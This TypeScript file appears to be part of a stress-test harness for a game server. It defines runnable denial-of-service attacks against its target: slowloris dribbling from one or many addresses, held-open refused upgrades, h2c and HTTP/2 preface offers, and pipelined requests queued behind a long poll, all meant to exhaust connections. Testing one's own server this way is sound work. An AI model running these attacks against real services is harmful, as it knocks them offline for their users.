import type { Socket } from 'node:net';
import type { TableUpdate } from '@crownleaf/protocol';
import { upgradeOf } from '../../raw-line.ts';
import { type Attack, MANY_ADDRESSES, ONE_ADDRESS } from '../attack.ts';
import { openSocket, swarm } from '../swarm.ts';
import { Visitor } from '../visitor.ts';

const MORE_THAN_DESCRIPTORS = 1100;

/** Until it is cut. */
function talkOn(socket: Socket, text: string): void {
  socket.resume();
  const timer = setInterval(() => socket.write(text), 500);
  socket.once('close', () => clearInterval(timer));
}

/** Every other one goes away and leaves bytes that nobody has read; the rest stay, though they were refused. */
export const refusedUpgrades: Attack = {
  name: 'refused upgrades',
  async run(target, deadline) {
    let n = 0;
    const begin = (address: string): Socket => {
      const socket = openSocket(target, address);
      socket.write(upgradeOf('/nothing'));
      socket.write(Buffer.alloc(100));
      if (n++ % 2 === 0) socket.once('data', () => socket.destroy());
      else talkOn(socket, 'x');
      return socket;
    };
    const count = MORE_THAN_DESCRIPTORS * target.scale;
    const opened = await swarm({ count, addresses: ONE_ADDRESS, deadline, perSecond: 1000, begin });
    return { volume: `${opened} upgrades` };
  },
};

const OFFERS = [
  'GET /api/games HTTP/1.1\r\nhost: localhost\r\nconnection: upgrade\r\nupgrade: h2c\r\n\r\n',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
];

export const otherProtocols: Attack = {
  name: 'h2c and HTTP/2',
  async run(target, deadline) {
    let n = 0;
    const begin = (address: string): Socket => {
      const socket = openSocket(target, address);
      socket.write(OFFERS[n++ % OFFERS.length]!);
      socket.once('data', () => socket.destroy());
      return socket;
    };
    const opened = await swarm({ count: 200, addresses: ONE_ADDRESS, deadline, perSecond: 1000 * target.scale, begin });
    return { volume: `${opened} offers` };
  },
};

const DRIBBLES = [
  // A head that never ends, a body that never ends, and nothing at all.
  { head: 'GET /api/health HTTP/1.1\r\n', drop: 'x: y\r\n' },
  { head: 'POST /api/guest HTTP/1.1\r\ncontent-type: application/json\r\ncontent-length: 60000\r\n\r\n', drop: ' ' },
  { head: '', drop: '' },
];

function slowloris(name: string, addresses: readonly string[]): Attack {
  return {
    name,
    async run(target, deadline) {
      let n = 0;
      const begin = (address: string): Socket => {
        const { head, drop } = DRIBBLES[n++ % DRIBBLES.length]!;
        const socket = openSocket(target, address);
        socket.write(head);
        talkOn(socket, drop);
        return socket;
      };
      const count = MORE_THAN_DESCRIPTORS * target.scale;
      const opened = await swarm({ count, addresses, deadline, perSecond: 1000, begin });
      return { volume: `${opened} connections` };
    },
  };
}

export const slowlorisOfOne = slowloris('slowloris, one address', ONE_ADDRESS);
export const slowlorisOfMany = slowloris('slowloris, 17 addresses', MANY_ADDRESSES);

const OPEN_TABLE = { game: 'minidom', seats: [{ kind: 'me' }, { kind: 'open' }], visibility: 'public' };
const FILES_PER_CONNECTION = 9;
const MAX_QUEUES = 11;
/** Its requests under way are used up, so that no other attack could be made from it at the same time. */
const QUEUEING_ADDRESS = ['127.0.1.201'];

/** A few connections on which files of the page wait behind a call that takes long, and idle ones. */
export const queuedFiles: Attack = {
  name: 'queued files',
  async run(target, deadline) {
    using visitor = await Visitor.withAccount(target.url, '127.0.1.200');
    const { table, seq } = await visitor.get<TableUpdate>('POST', '/api/tables', OPEN_TABLE);
    const { text } = await visitor.call('GET', '/');
    // Where no page was built, there are no files either.
    const file = /\/assets\/[\w-]+\.js/.exec(text)?.[0] ?? '/';
    const paths = [`/api/tables/${table}?since=${seq}&wait=25`, ...Array<string>(FILES_PER_CONNECTION).fill(file)];
    const queue = paths.map((path) => `GET ${path} HTTP/1.1\r\nhost: localhost\r\n\r\n`).join('');
    let queues = 0;
    const begin = (address: string): Socket => {
      const socket = openSocket(target, address);
      if (queues++ < MAX_QUEUES) socket.write(queue);
      socket.resume();
      return socket;
    };
    const count = MORE_THAN_DESCRIPTORS * target.scale;
    const opened = await swarm({ count, addresses: QUEUEING_ADDRESS, deadline, perSecond: 1000, begin });
    return { volume: `${opened} connections, ${MAX_QUEUES * FILES_PER_CONNECTION} files` };
  },
};
